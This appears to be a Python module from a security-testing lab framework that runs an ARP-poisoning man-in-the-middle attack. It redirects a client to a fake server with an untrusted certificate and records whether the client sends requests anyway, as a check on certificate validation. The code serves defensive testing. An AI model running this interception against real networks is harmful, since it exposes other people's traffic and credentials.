"""Impersonate a server towards its client, as root on a worker that redirects packets.

ARP poisoning brings the packets to the worker. A firewall rule redirects those for one server to
the attacker's process, which has a certificate of an unknown CA. The firewall does not redirect a
connection that it saw before: it resets it, and the client opens a new one. Plaintext is
forwarded to the real server, unless the attacker has an answer of their own. The rules and the
process are removed at the end.
"""

from __future__ import annotations

import base64
import json
import re
import secrets
from collections.abc import Callable, Sequence
from concurrent.futures import wait
from dataclasses import dataclass, field
from typing import TYPE_CHECKING

from labkit import agents
from labkit.errors import ProbeError, ProbeTimeout
from labkit.lab.parallel import aside
from labkit.lab.pki import Authority
from labkit.lab.traces import Trace, leaving
from labkit.model import Channel, Foothold, Model, read_model
from labkit.techniques._lib.machines.reach import address_in_lab, run
from labkit.techniques._lib.technique import ROOT_ON_WORKER, Prediction, Technique, any_of, holds
from labkit.techniques._lib.verdict import Verdict
from labkit.techniques._lib.wire.capture import LEAVES, neighbours, place_of, wait_until_poisoned

if TYPE_CHECKING:
    from labkit.lab import Lab

__all__ = ["ANSWER", "InterceptionTarget", "intercept", "intercept_calls", "predict", "technique"]

#: The comment of the firewall's rules of ``labkit.agents.fake_server``.
RULES = "labkit-middle"
#: The answer of the false server, where none is made up for the client.
ANSWER = b"labkit: this is not what you asked for\n"
#: Seconds that the false server runs, that it may take to end, and that one call may take to reach
#: it. A call over an old connection that is reset is lost, so the client is made to call again.
STAY, MARGIN, CALL = 20.0, 20.0, 4.0


@dataclass(frozen=True, slots=True)
class InterceptionTarget:
    """One client that may accept the attacker as its server.

    Parameters
    ----------
    about : str
        A shell pattern for the ids of the channels.
    call : callable
        Takes a lab. It makes the client call its server, undoes that, and returns the client's
        output.
    wanted : str
        Text that identifies a request of the client in the plaintext.
    read : str
        What the attacker has read, for the evidence.
    positive_control : callable
        Takes a lab. It shows that the client reaches the real server when no attacker is in
        between, and returns that in words.
    leaves : tuple of str
        The kinds of traces that `call` leaves until it has undone them.
    machines : tuple of str
        Machines that not every lab has, and without which there is no such client or server.
    answer : bytes
        The body of the false server's answer; empty to end each connection without one.
    relays : bool
        Whether plaintext is forwarded to the real server, and only TLS is answered.
    """

    about: str
    call: Callable[[Lab], bytes | None] = field(repr=False)
    wanted: str
    read: str
    positive_control: Callable[[Lab], str] = field(repr=False)
    leaves: tuple[str, ...] = ()
    machines: tuple[str, ...] = ()
    answer: bytes = field(default=ANSWER, repr=False)
    relays: bool = True


def predict(model: Model, about: str) -> Prediction:
    """Predict whether the client of some channels verifies its server's certificate."""
    found = model.open_channels(about)
    if not found:
        closed = tuple(str(c.encryption) for c in model.closed_channels(about))
        return Prediction(False, closed or (f"the model has no channel {about}",))
    return any_of(*(holds(it.server_authentication, "none", "unverified") for it in found))


def intercept(lab: Lab, foothold: Foothold, name: str, target: InterceptionTarget) -> Verdict:
    """Intercept a client's calls with a certificate of an unknown CA, and return the verdict.

    Raises
    ------
    ProbeTimeout
        The client did not call.
    ProbeError
        The client's answer is neither a request nor a TLS alert.
    """
    found = read_model(lab.environment).open_channels(target.about)
    seen, said = intercept_calls(lab, foothold, found, target)
    believed_it = any(answer and target.answer in answer for answer in said)
    channel = found[0]
    asked = [f"{channel.client} was led to the attacker's server"]
    for entry in seen:
        if "plaintext" in entry:
            reason = "plaintext: nothing says who the server is"
            return _succeeded(lab, name, foothold, reason, [*asked, f"read: {target.read}"])
        if "tls" in entry:
            line = base64.b64decode(entry["tls"]).split(b"\r\n")[0].decode(errors="replace")
            if not re.match(r"[A-Z]+ /\S* HTTP/", line):
                raise ProbeError(f"{name}: the client sent no request", evidence=[line[:80]])
            more = [f"read over TLS: {target.read}"]
            if believed_it:
                more.append("the attacker's answer was believed and passed on")
            reason = "TLS, but the client does not look whose certificate it is"
            return _succeeded(lab, name, foothold, reason, [*asked, *more])
    alert = next((entry["alert"] for entry in seen if "alert" in entry), "")
    if not alert:
        raise ProbeTimeout(f"{name}: {channel.client} did not call")
    positive_control = target.positive_control(lab)
    reason = f"TLS alert: {alert}"
    return Verdict(name, lab.mode, foothold, False, reason, tuple(asked), positive_control)


def _succeeded(
    lab: Lab, name: str, foothold: Foothold, reason: str, evidence: Sequence[str]
) -> Verdict:
    return Verdict(name, lab.mode, foothold, True, reason, tuple(evidence))


def intercept_calls(
    lab: Lab, foothold: Foothold, found: Sequence[Channel], target: InterceptionTarget
) -> tuple[list[dict[str, str]], list[bytes | None]]:
    """Start the false server, make the client call, and return what both saw.

    Parameters
    ----------
    lab : Lab
    foothold : Foothold
    found : sequence of Channel
        Channels of one client to one port.
    target : InterceptionTarget

    Returns
    -------
    seen : list of dict
        What the client did: "plaintext" or "tls" with the bytes that it sent, in base64, or
        "alert" with the TLS alert.
    said : list of bytes or None
        What the target's calls returned.
    """
    here, stay = place_of(lab, foothold), STAY * lab.stretch()
    client = found[0].client_node
    servers = sorted({channel.server_node for channel in found})
    leaf = Authority.create("labkit-unknown-ca").issue(
        servers[0], hosts=[*servers, "localhost"], usages=["server"]
    )
    address = address_in_lab(lab, client)
    addresses = [address_in_lab(lab, server) for server in servers]
    folder = f"/tmp/labkit-{secrets.token_hex(4)}"  # noqa: S108 - of the attacker's machine
    job = {
        "folder": folder,
        "certificate_pem": leaf.certificate.decode(),
        "key_pem": leaf.key.decode(),
        "client": address,
        "servers": addresses,
        "port": found[0].port,
        "wanted": target.wanted,
        "answer": target.answer.decode(),
        "relays": target.relays,
        "lead": agents.argv("arp_poison", *(word for it in addresses for word in (address, it))),
        "seconds": stay,
    }
    pairs = [(client, server) for server in servers]
    argv = agents.argv("fake_server")
    traces = [*neighbours(lab, pairs), Trace("rules", RULES, here), Trace("program", folder, here)]
    with aside() as pool, leaving(lab, *traces):
        stdin = json.dumps(job).encode()
        future = pool.submit(run, lab, here, argv, stdin=stdin, timeout=stay + MARGIN, check=True)
        wait_until_poisoned(lab, here, pairs, future.done)
        said = [target.call(lab)]
        while not wait([future], timeout=CALL).done:
            said.append(target.call(lab))
        output = future.result()
    seen: list[dict[str, str]] = json.loads(output.stdout)
    return seen, said


def technique(
    name: str,
    title: str,
    target: InterceptionTarget,
    *,
    stride: tuple[str, ...],
    sources: tuple[str, ...],
) -> Technique:
    """Make the technique that intercepts a client's calls."""

    def predict_technique(model: Model, foothold: Foothold) -> Prediction:
        """Predict whether the client verifies its server's certificate."""
        return predict(model, target.about)

    def execute_technique(lab: Lab, foothold: Foothold) -> Verdict:
        """Redirect the client to a false server, make it call, and see whether it sends a request.

        Raises
        ------
        ProbeTimeout
            The client did not call.
        ProbeError
            The client's answer is neither a request nor a TLS alert.
        """
        return intercept(lab, foothold, name, target)

    return Technique(
        name=name,
        title=title,
        footholds=(ROOT_ON_WORKER,),
        grants=(),
        about=target.about,
        properties=("server_authentication",),
        attack=("T1557.002",),
        stride=stride,
        cwe=("CWE-295", "CWE-300"),
        sources=("https://attack.mitre.org/techniques/T1557/002/", *sources),
        predict=predict_technique,
        execute=execute_technique,
        cost=3.0,
        leaves=(*LEAVES, "rules", *target.leaves),
        machines=target.machines,
    )
